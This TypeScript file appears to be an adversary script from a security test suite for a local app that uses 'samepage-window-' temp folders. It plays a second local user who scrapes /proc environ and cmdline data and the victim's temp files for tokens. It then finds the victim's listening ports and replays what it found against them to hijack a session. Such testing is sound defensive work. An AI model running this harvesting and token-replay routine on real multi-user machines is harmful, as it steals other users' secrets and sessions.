/**
 * Another user of the machine, who wants into somebody's session. Over and over, everything about processes and temporary files
 * that such a user may read is read, and every door of every port that the victim listens at is tried with what was found.
 *
 * Argument: the victim's user id. Lines of standard input count as found, too. It says when there is nothing left to try with
 * what it has; at the end of its input, what it tried in all, and ends.
 */
import { readdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { setImmediate as nextTurn } from 'node:timers/promises';
import { knock } from './knock.ts';
import { Loot } from './loot.ts';

const victim = process.argv[2] ?? '';
const loot = new Loot();
const tries = { looks: 0, ports: 0, knocks: 0, refused: 0, cutOff: 0 };
const ports = new Set<number>();
const knocked = new Set<string>();
let goesOn = true;

const say = (line: unknown) => process.stdout.write(`${JSON.stringify(line)}\n`);
const read = (path: string) => readFile(path, 'latin1').catch(() => '');
const list = (path: string) => readdir(path).catch(() => []);

async function lookAtProcesses(): Promise<void> {
  for (const pid of (await list('/proc')).filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)) {
    for (const file of ['cmdline', 'environ', 'comm']) loot.take(await read(`/proc/${pid}/${file}`));
  }
}

/** Files that the victim keeps to himself: whatever can be read of them is stolen. */
async function lookAtFiles(): Promise<void> {
  const folders = (await list(tmpdir())).filter((name) => name.startsWith('samepage-window-'));
  for (const folder of folders) loot.paths.add(join(tmpdir(), folder));
  for (const path of [...loot.paths].filter((each) => each.includes('samepage-window-'))) {
    const names = await list(path);
    if (names.length > 0) say({ stolen: `the list of ${path}` });
    for (const file of [path, join(path, 'open.html'), ...names.map((name) => join(path, name))]) {
      const text = await read(file);
      if (text !== '') say({ stolen: `what is in ${file}` });
      loot.take(text);
    }
  }
}

/** See proc_pid_net(5): 0A is a socket that listens. */
async function lookAtPorts(): Promise<void> {
  for (const table of ['tcp', 'tcp6']) {
    for (const line of (await read(`/proc/self/net/${table}`)).split('\n').slice(1)) {
      const [, local = '', , state, , , , uid] = line.trim().split(/\s+/);
      if (state === '0A' && uid === victim) ports.add(Number.parseInt(local.split(':')[1] ?? '', 16));
    }
  }
  tries.ports = ports.size;
}

async function tryDoors(): Promise<void> {
  for (const port of ports) {
    const hosts = ['127.0.0.1', 'localhost', ...loot.hosts].map((host) =>
      host.includes(':') ? host : `${host}:${port}`,
    );
    for (const address of ['127.0.0.1', '::1']) {
      for (const host of hosts) {
        for (const path of ['/', '/licences.txt', ...loot.tickets]) await tryOnce({ address, port, host, path });
        for (const token of loot.words) await tryOnce({ address, port, host, path: '/session', token });
      }
    }
  }
}

async function tryOnce(door: Parameters<typeof knock>[0]): Promise<void> {
  const name = JSON.stringify(door);
  if (!goesOn || knocked.has(name)) return;
  knocked.add(name);
  tries.knocks += 1;
  const { status, location } = await knock(door);
  if (status === 403) tries.refused += 1;
  // Nothing answers there any more, or it hung up.
  else if (status === 0) tries.cutOff += 1;
  else say({ stolen: `${status} ${location} at ${name}` });
  loot.take(location);
}

async function steal(): Promise<void> {
  say({ ready: true });
  for (; goesOn; tries.looks += 1) {
    await lookAtProcesses();
    await lookAtFiles();
    await lookAtPorts();
    const before = tries.knocks;
    const knowsWhere = ports.size > 0 && loot.hosts.size > 0;
    await tryDoors();
    if (knowsWhere && tries.knocks === before) say({ exhausted: true });
    await nextTurn();
  }
  say({ tries });
  process.exit();
}

createInterface({ input: process.stdin })
  .on('line', (line) => loot.take(line))
  .on('close', () => {
    goesOn = false;
  });
void steal();
